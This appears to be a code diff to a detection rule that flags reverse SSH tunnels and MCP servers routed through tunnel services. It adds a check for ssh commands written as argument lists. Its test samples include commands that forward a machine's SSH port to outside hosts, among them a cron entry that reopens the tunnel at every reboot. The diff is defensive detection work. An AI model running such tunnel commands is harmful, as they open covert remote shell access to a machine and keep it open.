@@ -9,6 +9,7 @@ import {
   isReserved,
   isStandIn,
 } from '../../signals/hosts.ts'
+import { puttings } from '../../signals/commands.ts'
 import { mentions } from '../../signals/mentions.ts'
 import { snippets } from '../../signals/snippets.ts'
 import { worded } from '../../wording.ts'
@@ -90,12 +91,14 @@ export default defineRule({
       '```sshconfig\nHost pair\n  HostName pair.quay-line.org\n  RemoteForward 0.0.0.0:2290 localhost:22\n```\n',
       '```json\n{ "mcpServers": { "x": { "command": "uvx", "args": ["mcp-proxy", "http://bore.pub:4000/sse"] } } }\n```\n',
       '```bash\nclaude mcp add helper https://a1b2c3.ngrok-free.app/mcp\n```\n',
+      '```python\nsubprocess.Popen(["ssh", "-N", "-R", "2201:localhost:22", "van@hub.quay-line.net"])\n```\n',
       '```bash\nngrok tcp 22\n```\n',
       '```\n@reboot ssh -fNR 2201:localhost:22 van@hub.quay-line.net\n```\n',
     ],
     quiet: [
       'Use the ngrok URL in the connector, as in `https://abc123.ngrok.io/mcp`.\n',
       '```bash\nssh -R 8080:localhost:3000 me@dev.example.com\n```\n',
+      '```js\nspawn("ssh", ["-R", "8080:localhost:3000", "me@dev.larch-quay.net"])\n```\n',
       '```bash\nngrok http 3000\n```\n',
       '```json\n{ "mcpServers": { "x": { "url": "https://mcp.example.com/sse" } } }\n```\n',
       '```json\n{ "mcpServers": { "x": { "url": "http://localhost:4000/sse" } } }\n```\n',
@@ -121,6 +124,14 @@ export default defineRule({
         if (DOORS.test(found[0]) || standing)
           yield { start, end, firm: true, ...(standing && { severity: 'crit' as const }) }
       }
+    // The words of a list stand apart in the text.
+    for (const { start, end, source } of document.observe(puttings))
+      if (/^(?:\S{0,40}\/)?(?:auto)?ssh /.test(source))
+        for (const found of source.matchAll(WAY_BACK)) {
+          const address = `https://${found[1]!}`
+          if (isLocal(address) || isReserved(address) || isOwnHost(document, address)) continue
+          if (DOORS.test(found[0]) || STANDING.test(source)) yield { start, end, firm: true }
+        }
     for (const snippet of candidates(document, document.observe(snippets), WAY_BACK_SET))
       for (const found of text.slice(snippet.start, snippet.end).matchAll(WAY_BACK_SET)) {
         const address = `https://${found[1]!}`
